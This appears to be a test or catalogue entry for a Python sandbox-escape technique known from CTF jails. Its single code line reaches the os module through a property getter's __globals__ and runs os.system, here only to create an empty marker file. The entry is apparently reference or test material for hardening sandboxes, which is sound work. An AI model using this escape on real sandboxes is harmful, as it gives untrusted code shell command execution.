"""The function behind a property, found in the class, knows its module's names.

Known from: CTF jails
Effect: made
Host: import os
Host: class Host:
Host:     @property
Host:     def size(self): return 1
Host: host = Host()
Given: host
Jail: no builtins
"""
host.__class__.__dict__["size"].fget.__globals__["os"].system(": > made")
